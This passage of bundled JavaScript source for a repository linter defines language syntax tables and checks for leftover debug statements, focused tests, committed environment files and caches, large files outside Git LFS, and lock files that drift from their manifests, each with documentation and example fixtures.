    strings: [quoted('"', true), quoted("'", true)],
    heredoc: /<<<\s*["']?([A-Za-z_]\w*)["']?/y,
};
const rust = {
    ...slashes,
    language: 'rust',
    strings: [raw('r##"', '"##'), raw('r#"', '"#'), raw('r"', '"'), quoted('"', true)],
    characters: true,
};
const csharp = { ...slashes, language: 'csharp', strings: [tripled, raw('@"', '"'), syntax_double, single] };
const table = [
    ['js jsx mjs cjs ts tsx mts cts', javascript],
    ['vue svelte astro', { ...component, language: 'javascript' }],
    ['py pyi', python],
    ['rb rake gemspec', ruby],
    ['php', php],
    ['go', { ...slashes, language: 'go', strings: [syntax_double, single, raw('`')] }],
    ['rs', rust],
    ['java', { ...jvm, language: 'java' }],
    ['kt kts', { ...jvm, language: 'kotlin' }],
    ['scala sc', { ...jvm, language: 'scala', characters: true, strings: [tripled, syntax_double] }],
    ['groovy gradle', { ...jvm, language: 'groovy' }],
    ['cs', csharp],
    ['swift', { ...slashes, language: 'swift', strings: [tripled, syntax_double] }],
    ['dart', { ...slashes, language: 'dart', strings: [tripled, quoted("'''", true), syntax_double, single] }],
    ['c h cc cpp cxx hh hpp hxx m mm', c],
    ['proto', { ...slashes, language: 'proto', strings: [syntax_double, single] }],
    ['css', css],
    ['scss less', { ...css, lineComments: ['//'], blankBeforeComment: true }],
    ['sh bash zsh', shell],
    ['ex exs', { ...hash, language: 'elixir', strings: [tripled, syntax_double, single] }],
    ['yml yaml', { ...hashAfterBlank, language: 'yaml' }],
    ['toml', { ...hashAfterBlank, language: 'toml' }],
    [
        'tf hcl',
        { ...slashes, language: 'terraform', lineComments: ['#', '//'], strings: [syntax_double], heredoc: /<<-?([A-Z]\w*)/y },
    ],
    ['pl pm', { ...hashAfterBlank, language: 'perl' }],
    ['lua', { ...dashes, language: 'lua', blockComments: [['--[[', ']]']] }],
    ['sql', { ...dashes, language: 'sql', blockComments: [['/*', '*/']] }],
    ['hs', { ...dashes, language: 'haskell', blockComments: [['{-', '-}']] }],
    ['html htm xml', { ...markup, language: 'markup' }],
    ['mk', { ...hashAfterBlank, language: 'make', strings: [] }],
];
const byExtension = new Map(table.flatMap(([extensions, syntax]) => extensions.split(' ').map((e) => [e, syntax])));
const byName = new Map([
    ['Makefile', { ...hashAfterBlank, language: 'make', strings: [] }],
    ['Dockerfile', { ...hashAfterBlank, language: 'docker', strings: [] }],
    ['Gemfile', ruby],
    ['Rakefile', ruby],
    ['Jenkinsfile', { ...jvm, language: 'groovy' }],
]);
/** The syntax of the file at `path`, by its name; undefined if it is not known, or is prose. */
function syntaxOf(path) {
    const name = path.slice(path.lastIndexOf('/') + 1);
    const dot = name.lastIndexOf('.');
    return byName.get(name) ?? (dot < 0 ? undefined : byExtension.get(name.slice(dot + 1).toLowerCase()));
}

;// CONCATENATED MODULE: ./lib/modules/checks/change/added.js



// Several checks look at the same files; the entries go with the change.
const lexedFiles = new WeakMap();
/** `text` as the head's content of `file`, lexed once for all checks. */
function lexedFile(file, text, syntax) {
    const known = lexedFiles.get(file);
    if (known !== undefined)
        return known;
    const lexed = lexText(text, syntax);
    lexedFiles.set(file, lexed);
    return lexed;
}
/**
 * The added lines that match `quick`, of source files that `wanted` accepts; neither of generated nor of vendored
 * files. A file is read and lexed only when one of its added lines matches.
 */
function* addedLines(change, wanted, quick) {
    for (const file of change.files) {
        const { path } = file;
        const syntax = file.hunks.length === 0 || file.status === 'deleted' ? undefined : syntaxOf(path);
        if (syntax === undefined || isGenerated(path) || isVendored(path) || !wanted(path, syntax.language))
            continue;
        for (const { line, raw } of matching(file, quick)) {
            const text = change.text(file);
            if (text === undefined)
                break;
            yield { path, language: syntax.language, line, raw, text, lexed: lexedFile(file, text, syntax) };
        }
    }
}
function* matching(file, quick) {
    for (const { headStart, added } of file.hunks) {
        for (let index = 0; index < added.length; index++) {
            const raw = added[index];
            if (quick.test(raw))
                yield { line: headStart + index, raw };
        }
    }
}
/** The code of `line` from `column` (0-based), and of as many lines after it as it takes to close its brackets, at most 8. */
function codeOfCall(lexed, line, column) {
    let code = lexed.code(line).slice(column);
    for (let next = line + 1; next < line + 8 && next <= lexed.lines && depth(code) > 0; next++)
        code += `\n${lexed.code(next)}`;
    return code;
}
function depth(code) {
    let open = 0;
    for (const c of code) {
        if (c === '(' || c === '[' || c === '{')
            open++;
        else if (c === ')' || c === ']' || c === '}')
            open--;
    }
    return open;
}

;// CONCATENATED MODULE: ./lib/modules/checks/debug-leftover.js



// What people print to see that a line is reached.
const marker = /^(?:(?:got |i am |i'm )?here\b|(?:testing|test|foo|bar|asdf\w*|qwe\w*|wtf|aa+|bb+|xx+|zz+)\W*\d*$|debug(?:ging)?\b|\d{1,4}\W*$|[-=*#!<>~]{3,}\s*(?:\w+\W*)?$)/i;
const debug_leftover_javascript = [
    { code: /(?<=^\s*|[;{}]\s*)debugger(?=\s*(?:;|\}|$))/ },
    { code: /(?<![\w$.])console\.(?:log|debug|info|warn|error)(?=\(\s*["'`])/, text: marker },
];
const patterns = {
    javascript: debug_leftover_javascript,
    python: [
        { code: /(?<=^\s*|[;:]\s*)breakpoint\(\)/ },
        { code: /(?<![\w.])(?:i?pdb|pudb|ipdb|wdb|rpdb)\.set_trace\(/ },
        { code: /(?<![\w.])print(?=\(f?["'])/, text: marker },
    ],
    ruby: [
        { code: /(?<![\w.:@])binding\.(?:pry|irb|b\b|break\b|remote_pry)/ },
        { code: /^\s*(?:byebug|debugger)(?=\s*(?:$|;|if\b|unless\b))/ },
        { code: /^\s*(?:p|puts)(?= ["'])/, text: marker },
    ],
    php: [{ code: /(?<![\w>:$\\]|function |fn |function &|new )\\?(?:var_dump|ddd?|xdebug_break)\((?!\.\.\.\))/ }],
    rust: [{ code: /(?<![\w:.])(?:std::)?dbg!\(/ }],
    go: [
        { code: /(?<![\w.])fmt\.Print(?:ln|f)?(?=\(\s*["`])/, text: marker },
        { code: /(?<![\w.])(?:spew\.Dump|runtime\.Breakpoint)\(/ },
    ],
    java: [{ code: /(?<![\w.])System\.(?:out|err)\.print(?:ln|f)?\(/ }],
    csharp: [{ code: /(?<![\w.])(?:System\.Diagnostics\.)?Debugger\.(?:Break|Launch)\(\)/ }],
    elixir: [{ code: /(?<![\w.])(?:require IEx|IEx\.pry)\b/ }],
};
const quick = /debugger|console\.|breakpoint|set_trace|print|binding\.|byebug|\bputs |\bp ["']|dump\(|dd\(|xdebug_break|dbg!|fmt\.P|spew|IEx|Debugger\./i;
// A Java program that talks to its terminal.
const terminal = /(?:^|\/)(?:[^/]*(?:cli|cmd|command|console|shell|launcher|tools?|main)[^/]*)(?:\/|\.java$)/i;
const debugLeftover = changeCheck({
    scope: 'change',
    id: 'debug-leftover',
    summary: 'A break point or a print that was left behind',
    level: 'warning',
    docs: `A forgotten break point halts a program, or its tests in CI, for ever; a forgotten print clutters the output and
may show what nobody should see.

Only added lines of code are looked at, and only for what is hardly ever meant to stay: \`debugger\`, \`breakpoint()\`,
\`pdb.set_trace()\`, \`binding.pry\`, \`byebug\`, \`dd()\`, \`var_dump()\`, \`dbg!()\`, \`spew.Dump()\`, \`Debugger.Break()\`. A
print (\`console.log\`, \`print\`, \`puts\`, \`fmt.Println\`) is how many programs do their work, so it is reported only with
the texts of debugging: "here", "xxx", "DEBUG …", "=====". \`System.out.println\` is a note, in the main sources of a
Java project that do not belong to a command line. \`Debug.WriteLine\` of .NET is left alone: release builds drop it.
So are comments, strings, fixtures, examples and documentation, and methods of the same name (\`$query->dd()\`).

Remove the line, or use the project's logger.`,
    source: 'https://eslint.org/docs/latest/rules/no-debugger',
    examples: [
        {
            title: 'break points and dumps',
            files: {
                'src/a.ts': "debugger;\nif (x) { debugger; }\nconsole.log('here');\nconsole.log('=====');\n",
                'app/a.py': 'import pdb; pdb.set_trace()\nbreakpoint()\nprint("DEBUG", x)\n',
                'lib/a.rb': 'binding.pry\nbyebug if x\n',
                'src/a.php': '<?php\nvar_dump($x);\ndd($x);\n',
                'src/a.rs': 'let y = dbg!(x + 1);\n',
                'src/main/java/a/Sum.java': 'class Sum {\n  void add() { System.out.println(1); }\n}\n',
            },
            findings: [
                'app/a.py:1',
                'app/a.py:2',
                'app/a.py:3',
                'lib/a.rb:1',
                'lib/a.rb:2',
                'src/a.php:2',
                'src/a.php:3',
                'src/a.rs:1',
                'src/a.ts:1',
                'src/a.ts:2',
                'src/a.ts:3',
                'src/a.ts:4',
                'src/main/java/a/Sum.java:2',
            ],
        },
        {
            title: 'output that is meant, words in comments and strings, and functions of that name',
            files: {
                'src/a.ts': "console.log('Listening on port', port);\n// debugger;\nconst s = 'debugger';\nuseDebugger(debugger_);\n",
                'app/a.py': 'print("Done.")\nbreakpoint = 3\n"""\npdb.set_trace()\n"""\n',
                'src/a.php': '<?php\nfunction dd($x) {}\n$query->dd();\n',
                'src/main/java/a/cli/Main.java': 'class Main {\n  void run() { System.out.println(1); }\n}\n',
                'docs/a.js': 'debugger;\n',
            },
            findings: [],
        },
    ],
    run(change, report) {
        const wanted = (path, language) => language in patterns && !isFixture(path) && !isExample(path);
        for (const added of addedLines(change, wanted, quick)) {
            const match = leftover(added);
            if (match === undefined)
                continue;
            const java = added.language === 'java';
            if (java && !isMainSource(added))
                continue;
            const name = match[0].trim().replace(/\($/, '');
            const message = java ? `\`${name}\` writes past the logger` : `\`${name}\` was left behind from debugging`;
            report(added.path, { line: added.line, column: match.index + 1, message, ...(java ? { level: 'note' } : {}) });
        }
    },
});
function leftover({ language, line, lexed, raw }) {
    const code = lexed.code(line);
    for (const pattern of patterns[language]) {
        const match = pattern.code.exec(code);
        if (match === null)
            continue;
        if (pattern.text === undefined)
            return match;
        const text = raw.slice(match.index + match[0].length).match(/^[\s(]*f?["'`]([^"'`]*)/)?.[1];
        if (text !== undefined && pattern.text.test(text))
            return match;
    }
    return undefined;
}
function isMainSource({ path, text }) {
    return (/^(?!buildSrc\/)(?:.*\/)?src\/main\//.test(path) &&
        !isTest(path) &&
        !terminal.test(path.replace('src/main/', '')) &&
        !/\bstatic void main\s*\(/.test(text));
}

;// CONCATENATED MODULE: ./lib/modules/checks/destroyed-symlink.js


const destroyedSymlink = changeCheck({
    id: 'destroyed-symlink',
    scope: 'change',
    summary: 'A symbolic link that became a file with its target as text',
    level: 'error',
    docs: `On a system without symbolic links, git writes a link as a small file that holds its target. Committing that file
from such a system replaces the link for everybody. Restore the link, or clone with \`core.symlinks=true\`.`,
    examples: [
        {
            title: 'A link that became a file',
            base: { 'a.txt': 'x\n', link: { content: 'a.txt', mode: 0o120000 } },
            files: { 'a.txt': 'x\n', link: 'a.txt' },
            findings: ['link'],
        },
        {
            title: 'A link replaced on purpose',
            base: { 'a.txt': 'x\n', link: { content: 'a.txt', mode: 0o120000 } },
            files: { 'a.txt': 'x\n', link: 'Text of its own,\non several lines.\n' },
            findings: [],
        },
    ],
    run(change, report) {
        for (const file of change.files) {
            if (file.base?.mode !== domain_entry/* Mode */.K.symlink || file.head === undefined || file.head.mode === domain_entry/* Mode */.K.symlink)
                continue;
            const text = change.text(file)?.replace(/\r?\n$/, '');
            if (text !== undefined && text.length < 4096 && !text.includes('\n')) {
                report(file.path, { message: `The symbolic link became a file that holds its target, ${JSON.stringify(text)}` });
            }
        }
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/executable-without-shebang.js



const executableWithoutShebang = fileCheck({
    id: 'executable-without-shebang',
    scope: 'file',
    summary: 'Executable text files that do not say what runs them',
    level: 'warning',
    facts: facts/* Fact */.d.executable,
    except: file_type/* unkempt */.rV,
    docs: `The mode says that the file can be run, but it has no \`#!\` line: running it hands it to whatever shell calls it.
Either the line is missing, or the mode is there by accident (\`git update-index --chmod=-x FILE\`). Batch files, which
Windows runs by their name, are left alone.`,
    examples: [
        { title: 'Without', files: { run: { content: 'echo hello\n', mode: 0o100755 } }, findings: ['run:1'] },
        { title: 'With', files: { run: { content: '#!/bin/sh\necho hello\n', mode: 0o100755 } }, findings: [] },
    ],
    run(file, report) {
        if (file.facts & facts/* Fact */.d.shebang || /\.(?:bat|cmd|exe|ps1)$/i.test(file.path))
            return;
        const at = file.length > 0 ? { offset: 0, length: file.lineEnd(0) } : undefined;
        report({ message: 'The file is executable but has no #! line', at });
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/final-newline.js



const finalNewline = fileCheck({
    id: 'final-newline',
    scope: 'file',
    summary: 'Text that does not end with exactly one line end',
    level: 'warning',
    facts: facts/* Fact */.d.noFinalNewline | facts/* Fact */.d.extraFinalNewline,
    except: file_type/* unkempt */.rV,
    source: 'https://pubs.opengroup.org/onlinepubs/9799919799/basedefs/V1_chap03.html#tag_03_185',
    docs: `POSIX defines a line as ending with a line end. Without the last one, tools that join or append to files run lines
together, and the next edit shows a line as changed that is not; several are noise. Empty files are left alone.`,
    examples: [
        { title: 'None', files: { 'a.txt': 'one\ntwo' }, findings: ['a.txt:2'], fixed: { 'a.txt': 'one\ntwo\n' } },
        { title: 'Several', files: { 'a.txt': 'one\n\n\n' }, findings: ['a.txt:2'], fixed: { 'a.txt': 'one\n' } },
        { title: 'Nothing but line ends', files: { 'a.txt': '\n\n' }, findings: ['a.txt:1'], fixed: { 'a.txt': '' } },
        { title: 'In the style of the file', files: { 'a.txt': 'one\r\ntwo' }, findings: ['a.txt:2'], fixed: { 'a.txt': 'one\r\ntwo\r\n' } },
        { title: 'Exactly one, or an empty file', files: { 'a.txt': 'one\n', 'b.txt': '' }, findings: [] },
    ],
    run(file, report) {
        if (file.facts & facts/* Fact */.d.noFinalNewline) {
            const text = (file.facts & (facts/* Fact */.d.lf | facts/* Fact */.d.cr)) === 0 && (file.facts & facts/* Fact */.d.crlf) !== 0 ? '\r\n' : '\n';
            report({
                message: 'The last line has no line end',
                at: { offset: file.length, length: 0 },
                fix: { description: 'End the last line', edits: [{ offset: file.length, length: 0, text }] },
            });
            return;
        }
        const offset = endOfText(file.buffer, file.length);
        const at = { offset, length: file.length - offset };
        report({
            message: offset === 0 ? 'The file consists of line ends' : 'Blank lines at the end of the file',
            at,
            fix: { description: 'Remove them', edits: [{ ...at, text: '' }] },
        });
    },
});
/** Behind the line end of the last line that is not empty. */
function endOfText(buffer, length) {
    let end = length;
    while (end > 0 && (buffer[end - 1] === 10 || buffer[end - 1] === 13))
        end--;
    if (end === 0)
        return 0;
    return end + (buffer[end] === 13 && buffer[end + 1] === 10 ? 2 : 1);
}

;// CONCATENATED MODULE: ./lib/modules/checks/focused-test.js



const focused_test_patterns = {
    javascript: /(?<![\w$.])(?:(?:describe|context|suite|it|test|specify|bench)(?:\.\w+)*\.only(?=\s*[(.`])|(?:fdescribe|fcontext|fit|fspecify)(?:\.each)?(?=\s*(?:\(\s*["'`]|`)))/,
    go: /(?<![\w.]|func |\) )(?:ginkgo\.)?F(?:It|Describe|Context|When|Specify|Entry|DescribeTable(?:Subtree)?)\((?=\s*(?:"|`|$))/,
    ruby: /(?<![\w.:])(?:(?:fit|fdescribe|fcontext|fspecify|fexample)(?=[ (]+["'])|focus: true\b|:focus => true\b|:focus(?=\s*(?:do\b|,.*\bdo\b)))/,
    swift: /(?<![\w.])(?:fit|fdescribe|fcontext)(?=\(")/,
    dart: /(?<![\w.])(?:solo: true\b|solo_(?:test|group)(?=\())/,
};
const focused_test_quick = /\.only\b|\bf(?:it|describe|context|specify|example)\b|\bF[A-Z]|focus|solo/;
const focusedTest = changeCheck({
    scope: 'change',
    id: 'focused-test',
    summary: 'A test that is singled out, so that the others do not run',
    level: 'error',
    docs: `A test marked with \`.only\`, \`fit\` or \`focus\` helps while one works on it. Committed, it switches off every
other test of its file or suite, and the run still ends green.

Only lines that the change adds to test files are looked at: \`describe.only\`, \`it.only\`, \`test.only\`, \`fit\` and
\`fdescribe\` (JavaScript, TypeScript), Ginkgo's \`FIt\` and \`FDescribe\`, RSpec's \`fit\` and \`focus: true\`, Quick's
\`fit\`, Dart's \`solo\`. Comments, strings, and the fixtures of tests are left alone, and so is a function that happens
to be called \`fit\`, when its first argument is no name of a test.

Remove the mark.`,
    source: 'https://jestjs.io/docs/api#testonlyname-fn-timeout',
    examples: [
        {
            title: 'the marks of JavaScript, Go and Ruby',
            files: {
                'src/sum.test.ts': "it.only('adds', () => {});\nfdescribe('sum', () => {});\ntest.concurrent.only.each([1])('x', () => {});\n",
                'pkg/sum_test.go': 'package pkg\n\nvar _ = FDescribe("sum", func() {})\n',
                'spec/sum_spec.rb': "it 'adds', focus: true do\nend\nfit 'adds' do\nend\n",
            },
            findings: [
                'pkg/sum_test.go:3',
                'spec/sum_spec.rb:1',
                'spec/sum_spec.rb:3',
                'src/sum.test.ts:1',
                'src/sum.test.ts:2',
                'src/sum.test.ts:3',
            ],
        },
        {
            title: 'comments, strings, other functions, other files, and what was there before',
            base: { 'src/old.test.ts': "it.only('old', () => {});\n" },
            files: {
                'src/old.test.ts': "it.only('old', () => {});\nit('new', () => {});\n",
                'src/sum.test.ts': "// it.only('x')\nconst text = \"it.only('x')\";\nmodel.fit(x);\nfit(box, page);\n",
                'src/layout.ts': "query.only('name');\n",
                'spec/view_spec.rb': 'expect(field).to receive(:focus)\n',
            },
            findings: [],
        },
    ],
    run(change, report) {
        const wanted = (path, language) => language in focused_test_patterns && isTest(path) && !isFixture(path);
        for (const { path, language, line, lexed } of addedLines(change, wanted, focused_test_quick)) {
            const match = focused_test_patterns[language].exec(lexed.code(line));
            if (match === null)
                continue;
            const message = `\`${match[0].trim().replace(/\($/, '')}\` runs this test alone and leaves out the others`;
            report(path, { line, column: match.index + 1, message });
        }
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/forbidden-file.js

const forbiddenFile = treeCheck({
    id: 'forbidden-file',
    scope: 'tree',
    summary: 'Files that do not belong into a repository',
    level: 'warning',
    docs: `Environment files with their secrets, what the operating system or an editor leaves behind, caches and build
outputs of interpreters and package managers. Remove the file (\`git rm --cached FILE\`) and add it to \`.gitignore\`.
Environment files that are examples (\`.env.example\`, \`.env.sample\`, \`.env.test\` and the like) and everything in folders
of test data are left alone.`,
    options: {
        forbid: { type: 'strings', default: [], summary: 'more names or endings of paths, such as `.orig` or `build/out.js`' },
        allow: { type: 'strings', default: [], summary: 'paths, or their endings, that are meant to be there' },
    },
    examples: [
        {
            title: 'Left behind',
            files: { '.DS_Store': 'x\n', 'a/__pycache__/b.pyc': 'x\n', '.env': 'A=1\n' },
            findings: ['.DS_Store', '.env', 'a/__pycache__/b.pyc'],
        },
        { title: 'Examples', files: { '.env.example': 'A=\n', 'src/env.ts': 'export {};\n' }, findings: [] },
        { title: 'Forbidden here', files: { 'a.orig': 'x\n' }, options: { forbid: ['.orig'] }, findings: ['a.orig'] },
    ],
    run(tree, report, options) {
        const ends = (path, end) => path === end || path.endsWith(end.startsWith('.') ? end : `/${end}`);
        for (const { path } of tree.candidates) {
            if (options.allow.some((end) => ends(path, end)))
                continue;
            const kind = forbiddenPath.test(path) ? kindOf(path) : undefined;
            const what = kind ?? (options.forbid.some((end) => ends(path, end)) ? 'forbidden by the configuration' : undefined);
            if (what !== undefined)
                report(path, { message: `The file is ${what}` });
        }
    },
});
/** Cheap: most paths are done with this one look. */
const forbiddenPath = /(?:^|\/)(?:\.env|\.ds_store|thumbs\.db|desktop\.ini|__pycache__\/|node_modules\/|\.pytest_cache\/|\.mypy_cache\/|\.ruff_cache\/|\.tox\/|\.nox\/|\.venv\/|\.ipynb_checkpoints\/|\.gradle\/|\.terraform\/|\.idea\/workspace\.xml|\.vs\/|\.history\/|npm-debug\.log|yarn-error\.log|\.coverage$|core\.\d+$)|\.(?:pyc|pyo|class|swp|swo|tfstate|orig|rej)$|~$/i;
const testData = /(?:^|\/)(?:[\w.-]*fixtures?|test|tests|__tests__|spec|testdata|test[-_]data|samples?|examples?|templates?)\//i;
const environment = /(?:^|\/)\.env(?:\.[\w.-]+)?$/;
const harmlessEnvironment = /\.(?:example|sample|template|tmpl|dist|defaults?|tests?|ci|schema|vault|e2e)(?:\.|$)/i;
function kindOf(path) {
    if (testData.test(path))
        return undefined;
    if (/(?:^|\/)\.env/i.test(path)) {
        return environment.test(path) && !harmlessEnvironment.test(path) ? 'an environment file, which may hold secrets' : undefined;
    }
    if (/\.tfstate$/i.test(path))
        return 'a state of Terraform, which may hold secrets';
    if (/(?:ds_store|thumbs\.db|desktop\.ini)$/i.test(path))
        return 'left behind by the operating system';
    if (/(?:~|\.swp|\.swo|workspace\.xml)$|\/\.(?:vs|history)\//i.test(path))
        return 'left behind by an editor';
    if (/\.(?:orig|rej)$/i.test(path))
        return 'left behind by a merge or a patch';
    return 'an output or a cache of a tool';
}

;// CONCATENATED MODULE: ./lib/modules/checks/ignored-but-tracked.js

const ignoredButTracked = treeCheck({
    id: 'ignored-but-tracked',
    scope: 'tree',
    summary: 'Files that are tracked although the ignore rules match them',
    level: 'note',
    source: 'https://git-scm.com/docs/gitignore',
    docs: `The file was added before the rule, or by force. Changes to it are committed although the rule says that they do
not matter, and tools that respect ignore rules pass over it. Remove it (\`git rm --cached FILE\`), or add an exception
(\`!FILE\`) to \`.gitignore\`.`,
    examples: [
        { title: 'Added by force', files: { '.gitignore': '*.log\n', 'a.log': 'x\n' }, findings: ['a.log'] },
        { title: 'An exception', files: { '.gitignore': '*.log\n!a.log\n', 'a.log': 'x\n' }, findings: [] },
    ],
    async run(tree, report) {
        const ignored = new Set(await tree.ignoredTracked());
        if (ignored.size === 0)
            return;
        for (const { path } of tree.candidates) {
            if (ignored.has(path))
                report(path, { message: 'The file is tracked, but .gitignore tells to ignore it' });
        }
    },
});

;// CONCATENATED MODULE: ./lib/domain/format.js
const units = ['bytes', 'KiB', 'MiB', 'GiB', 'TiB'];
/** A size for people: `17 bytes`, `1.5 MiB`. */
function formatBytes(bytes) {
    let unit = 0;
    let value = bytes;
    while (value >= 1024 && unit < units.length - 1) {
        value /= 1024;
        unit++;
    }
    const digits = unit === 0 || value >= 100 ? 0 : 1;
    return `${value.toFixed(digits).replace(/\.0$/, '')} ${unit === 0 && bytes === 1 ? 'byte' : units[unit]}`;
}

;// CONCATENATED MODULE: ./lib/modules/checks/files/lfs.js

/** Whether a `.gitattributes` of the tree gives the file at `path` to Git LFS. */
function isLfsTracked(tree, path) {
    for (let folder = (0,domain_path/* dirName */.BB)(path);; folder = (0,domain_path/* dirName */.BB)(folder)) {
        const attributes = tree.read(folder === '' ? '.gitattributes' : `${folder}/.gitattributes`);
        const inside = folder === '' ? path : path.slice(folder.length + 1);
        // Within one file the last line that matches decides.
        const line = attributes?.split('\n').findLast((one) => /\bfilter\b/.test(one) && matches(one.split(/\s+/)[0] ?? '', inside));
        if (line !== undefined)
            return /\sfilter=lfs\b/.test(line);
        if (folder === '')
            return false;
    }
}
/** A pattern without a slash matches the name in any folder (gitattributes(5)). */
function matches(pattern, path) {
    if (pattern === '' || pattern.startsWith('#'))
        return false;
    const anchored = pattern.replace(/^\//, '');
    const source = anchored.replace(/\*\*\/|\*\*|\*|\?|[.+^${}()|\\]/g, (sign) => globSigns[sign] ?? `\\${sign}`);
    return new RegExp(`^${pattern.includes('/') ? '' : '(?:.*/)?'}${source}$`).test(path);
}
const globSigns = { '**/': '(?:.*/)?', '**': '.*', '*': '[^/]*', '?': '[^/]' };

;// CONCATENATED MODULE: ./lib/modules/checks/large-file.js




const largeFile = treeCheck({
    id: 'large-file',
    scope: 'tree',
    summary: 'Large files that are not in Git LFS',
    level: 'warning',
    source: 'https://docs.github.com/en/repositories/working-with-files/managing-large-files/about-large-files-on-github',
    docs: `Every clone downloads every version of every file, for ever. GitHub warns at 50 MiB and refuses 100 MiB.
Files that \`.gitattributes\` gives to Git LFS are left alone. Lock files may be twice as large.`,
    options: {
        'max-size': { type: 'bytes', default: 2 * 1024 * 1024, summary: 'the size from which on a file is reported' },
    },
    examples: [
        { title: 'Larger than allowed', files: { 'a.bin': 'x'.repeat(3000) }, options: { 'max-size': 2000 }, findings: ['a.bin'] },
        {
            title: 'In Git LFS',
            files: { '.gitattributes': '*.bin filter=lfs diff=lfs merge=lfs -text\n', 'a.bin': 'x'.repeat(3000) },
            options: { 'max-size': 2000 },
            findings: [],
        },
    ],
    run(tree, report, options) {
        const limit = options['max-size'];
        for (const entry of tree.candidates) {
            const size = entry.size ?? 0;
            if (size <= limit || !(0,domain_entry/* isRegular */.$)(entry) || isLfsTracked(tree, entry.path))
                continue;
            if (size <= 2 * limit && /(?:^|[/.-])lock(?:file)?\b/i.test(entry.path))
                continue;
            report(entry.path, { message: `The file has ${formatBytes(size)}, more than ${formatBytes(limit)}, and is not in Git LFS` });
        }
    },
});

;// CONCATENATED MODULE: ./lib/modules/checks/change/manifests.js
const requirement = /^(?!.*=\s*\[\s*$)\s*["']?[A-Za-z0-9@][\w.@/-]*["']?\s*[:=[<>~!;",]/;
/** The manifests whose lock file is meant to be committed. */
const manifests = [
    {
        name: 'package.json',
        locks: ['package-lock.json', 'npm-shrinkwrap.json', 'yarn.lock', 'pnpm-lock.yaml', 'bun.lock', 'bun.lockb'],
        sections: jsonSections(/^(?:dependencies|devDependencies|optionalDependencies|overrides|resolutions)$/),
        entry: /^\s*"[^"]+"\s*:\s*"(?!workspace:|file:|link:|portal:)/,
        shows: 'any',
    },
    {
        name: 'composer.json',
        locks: ['composer.lock'],
        sections: jsonSections(/^require(?:-dev)?$/),
        entry: /^\s*"[^"]+"\s*:\s*"/,
        shows: 'any',
    },
    {
        name: 'pyproject.toml',
        locks: ['uv.lock', 'poetry.lock', 'pdm.lock'],
        sections: tomlSections(/^(?:project\.optional-dependencies|dependency-groups|tool\.poetry\.(?:.*\.)?(?:dev-)?dependencies|tool\.pdm\.dev-dependencies)$/, /^(?:project|tool\.uv)$/),
        entry: requirement,
        shows: 'any',
    },
    {
        name: 'Cargo.toml',
        locks: ['Cargo.lock'],
        sections: tomlSections(/^(?!workspace\.)(?:.*\.)?(?:dev-|build-)?dependencies$/),
        entry: /^[\w-]+(?:\.(?:workspace|version|path|git))?\s*=\s*(?!\[)/,
        shows: 'new',
    },
    {
        name: 'go.mod',
        locks: ['go.sum'],
        sections: goSections,
        entry: /^\s*(?:require\s+)?[\w.-]+\.[\w.-]+\/\S+ v\d/,
        shows: 'new',
    },
    {
        name: 'Gemfile',
        locks: ['Gemfile.lock'],
        sections: (lines) => lines.map(() => 'gem'),
        entry: /^\s*gem[ (]+["']/,
        shows: 'new',
    },
];
/** The members of the object's properties whose names match. Strings with braces in them do not occur in manifests' sections. */
function jsonSections(names) {
    return (lines) => {
        let depth = 0;
        let section;
        return lines.map((line) => {
            const opened = depth === 1 ? line.match(/^\s*"([^"]+)"\s*:\s*\{/)?.[1] : undefined;
            const inside = depth >= 2 ? section : undefined;
            if (opened !== undefined)
                section = names.test(opened) ? opened : undefined;
            for (const c of line.replace(/"(?:\\.|[^"\\])*"/g, '')) {
                if (c === '{' || c === '[')
                    depth++;
                else if (c === '}' || c === ']')
                    depth--;
            }
            return inside !== undefined && depth >= 2 ? inside : undefined;
        });
    };
}
/** The lines of tables whose names match `tables`, and of `dependencies` arrays in tables that match `arrays`. */
function tomlSections(tables, arrays) {
    return (lines) => {
        let table = '';
        let inArray = false;
        return lines.map((line) => {
            const header = line.match(/^\s*\[\[?\s*([^\]]+?)\s*\]\]?\s*(?:#.*)?$/);
            if (header !== null && !inArray) {
                table = header[1];
                return undefined;
            }
            if (tables.test(table))
                return table;
            if (!(arrays?.test(table) ?? false))
                return undefined;
            if (/^\s*(?:dev-)?dependencies\s*=\s*\[/.test(line))
                inArray = true;
            const inside = inArray;
            if (/\]\s*(?:#.*)?$/.test(line))
                inArray = false;
            return inside ? table : undefined;
        });
    };
}
function goSections(lines) {
    let inBlock = false;
    return lines.map((line) => {
        if (/^require\s*\(/.test(line))
            inBlock = true;
        else if (/^\)/.test(line))
            inBlock = false;
        else if (inBlock || /^require\s/.test(line))
            return 'require';
        return undefined;
    });
}

;// CONCATENATED MODULE: ./lib/modules/checks/lockfile-drift.js



const lockfileDrift = changeCheck({
    scope: 'change',
    id: 'lockfile-drift',
    summary: 'Dependencies changed, and the lock file did not',
    level: 'warning',
    docs: `A lock file that does not know what its manifest asks for stops a frozen installation in CI, or lets each machine
install something else.

The lock file is the one beside the manifest, or the nearest above it (a workspace); without one nothing is said. Only
the sections of dependencies are looked at, so that a new script or version of the package itself is left alone. Cargo,
Go and Bundler do not repeat every range and flag in their lock files: there only entries are reported that are new,
where nothing was removed from the manifest. Manifests in tests, fixtures and examples count only if the lock file lies
beside them; packages of the same repository, and versions of the form \`workspace:\` or \`file:\`, do not count.

Run the package manager (\`npm install\`, \`cargo check\`, \`go mod tidy\`, …) and commit the lock file.`,
    source: 'https://docs.npmjs.com/cli/configuring-npm/package-lock-json',
    examples: [
        {
            title: 'a new dependency',
            base: {
                'package.json': '{\n  "dependencies": {\n    "a": "1.0.0"\n  }\n}\n',
                'package-lock.json': '{}\n',
                'Cargo.toml': '[dependencies]\na = "1"\n',
                'Cargo.lock': '',
            },
            files: {
                'package.json': '{\n  "dependencies": {\n    "a": "1.0.0",\n    "b": "1.0.0"\n  }\n}\n',
                'package-lock.json': '{}\n',
                'Cargo.toml': '[dependencies]\na = "1"\nb = "1"\n',
                'Cargo.lock': '',
            },
            findings: ['Cargo.toml:3', 'package.json:3'],
        },
        {
            title: 'a dependency is removed in a workspace',
            base: {
                'yarn.lock': '',
                'packages/a/package.json': '{\n  "dependencies": {\n    "a": "1",\n    "b": "1"\n  }\n}\n',
            },
            files: { 'yarn.lock': '', 'packages/a/package.json': '{\n  "dependencies": {\n    "b": "1"\n  }\n}\n' },
            findings: ['packages/a/package.json:2'],
        },
        {
            title: 'the lock file changed too, or there is none, or what changed is no dependency',
            base: {
